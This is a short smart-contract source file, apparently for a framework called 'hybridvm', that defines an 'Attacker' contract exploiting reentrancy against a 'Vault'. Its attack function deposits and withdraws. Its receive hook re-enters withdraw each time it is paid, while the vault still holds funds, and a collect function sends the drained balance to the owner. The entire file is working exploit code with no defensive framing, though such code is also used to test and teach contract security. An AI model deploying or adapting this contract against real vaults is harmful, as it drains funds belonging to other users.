//! Withdraws from a vault again while the vault is still paying.

#![no_std]
#![no_main]
use hybridvm::prelude::*;

interface! {
    Vault {
        fn deposit(&mut self);
        fn withdraw(&mut self);
    }
}

contract! {
    struct Attacker {
        vault: Address,
        pub owner: Address,
    }

    impl Attacker {
        fn constructor(&mut self, vault: Address) {
            self.vault.set(vault);
            self.owner.set(msg::sender());
        }

        /// Deposits what is sent along and takes out as much as it can get.
        #[payable]
        pub fn attack(&mut self) -> Result<U256, Failure> {
            let vault = Vault::at(self.vault.get());
            vault.value(msg::value()).deposit()?;
            vault.withdraw()?;
            Ok(this::balance())
        }

        /// Being paid, asks for more as long as the vault can pay. Lets the call fail if that
        /// fails.
        #[payable]
        fn receive(&mut self) {
            let vault = self.vault.get();
            if hybridvm::syscall::balance(&vault) >= msg::value() {
                Vault::at(vault).withdraw().or_revert();
            }
        }

        pub fn collect(&mut self) {
            Call::to(self.owner.get()).value(this::balance()).send(&[]).or_revert();
        }
    }
}
